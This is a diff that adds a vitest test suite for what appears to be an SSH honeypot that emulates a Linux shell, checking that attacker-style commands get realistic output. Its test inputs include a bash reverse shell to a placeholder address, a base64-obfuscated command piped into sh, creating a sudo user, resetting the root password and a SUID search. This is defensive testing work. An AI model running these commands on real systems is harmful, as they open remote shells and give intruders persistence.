@@ -1,0 +1,74 @@
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { ssh } from './support/clients.ts';
+import { startTestDecoy, type TestDecoy } from './support/decoy.ts';
+import { openTerminal } from './support/terminal.ts';
+
+let test: TestDecoy;
+beforeAll(async () => {
+  test = await startTestDecoy();
+});
+afterAll(() => test?.close());
+
+it.each(['bin/[[a-f]*', 'bin/[g-m]*', 'bin/[n-r]*', 'bin/[s-z]*', 'sbin/*'])(
+  'no program in /usr/%s answers with a fault of the interpreter',
+  async (names) => {
+    // These would hold the line up, or end it.
+    const left = 'yes|reboot|halt|poweroff|shutdown|sleep|su|sudo';
+    const script = `for p in /usr/${names}; do [[ $p =~ /(${left})$ ]] && continue; $p a b </dev/null >/tmp/o 2>&1; $p </dev/null >>/tmp/o 2>&1; grep -q 'exceeded\\|accounting\\|undefined' /tmp/o && echo "$p: $(head -1 /tmp/o)"; done; ls -d /usr/${names} | wc -l`;
+    const { stdout } = await ssh(test.port, script);
+    expect(stdout).toMatch(/^\d{2,3}\n$/);
+  },
+);
+
+it.each([
+  {
+    line: 'for f in a b; do echo x > /nope/o || echo failed $f; done',
+    stdout: 'failed a\nfailed b\n',
+    stderr: 'bash: line 1: /nope/o: No such file or directory\n'.repeat(2),
+  },
+  {
+    line: '{ echo a > /nope/b; echo c; }; ( echo d > /nope/e ) 2>&1 | cat',
+    stdout: 'c\nbash: line 1: /nope/e: No such file or directory\n',
+    stderr: 'bash: line 1: /nope/b: No such file or directory\n',
+  },
+  {
+    line: 'bash -i >& /dev/tcp/203.0.113.4/80 0>&1; echo $?',
+    stdout: '1\n',
+    stderr: 'bash: connect: No route to host\nbash: line 1: /dev/tcp/203.0.113.4/80: No route to host\n',
+  },
+  { line: 'env | grep -c "^USER=root\\|^SHELL=/bin/bash\\|^SSH_CLIENT="', stdout: '3\n', stderr: '' },
+  { line: 'echo aWQgLXUK | base64 -d | sh -x; echo "echo $1 me" | bash -s x', stdout: '0\nme\n', stderr: '+ id -u\n' },
+  { line: `python3 -c 'import os; print(2**10, os.getuid())'`, stdout: '1024 0\n', stderr: '' },
+  { line: 'seq 4 | xargs -n2 | xargs -I{} echo "<{}>"', stdout: '<1 2>\n<3 4>\n', stderr: '' },
+  { line: 'dd if=/bin/ls bs=20 count=1 2>/dev/null | od -An -tx1 | head -c 12', stdout: ' 7f 45 4c 46', stderr: '' },
+  {
+    line: 'find /usr/bin -perm -u=s -name passwd; command -v nosuch || echo none',
+    stdout: '/usr/bin/passwd\nnone\n',
+    stderr: '',
+  },
+])('$line', async ({ line, stdout, stderr }) => {
+  expect(await ssh(test.port, line)).toMatchObject({ stdout, stderr });
+});
+
+it('who is added is in every table, and a password that was changed is the only one from then on', async () => {
+  const made = await ssh(
+    test.port,
+    'useradd -m -G sudo eve; id -Gn eve; getent passwd eve | cut -d: -f6; ls -ld /home/eve',
+  );
+  expect(made.stdout).toMatch(/^eve sudo\n\/home\/eve\ndrwx.* eve eve /);
+  await ssh(test.port, 'echo root:changed-1 | chpasswd');
+  expect((await ssh(test.port, 'id', { password: 'hunter2' })).status).toBe(255);
+  expect((await ssh(test.port, 'echo in; echo root:hunter2 | chpasswd', { password: 'changed-1' })).stdout).toBe(
+    'in\n',
+  );
+});
+
+it('a job goes on behind the prompt until it is killed, and two sessions of one attacker see each other', async () => {
+  const [one, two] = [await openTerminal(test.port), await openTerminal(test.port)];
+  expect(await one.type('sleep 500 &')).toMatch(/\[1\] \d+\r\n/);
+  expect(await one.type('jobs')).toContain('[1]+  Running                 sleep 500 &');
+  expect(await one.type('kill %1')).toContain('Terminated');
+  expect((await two.type('who')).match(/pts\/\d+/g)).toHaveLength(2);
+  one.close();
+  two.close();
+});
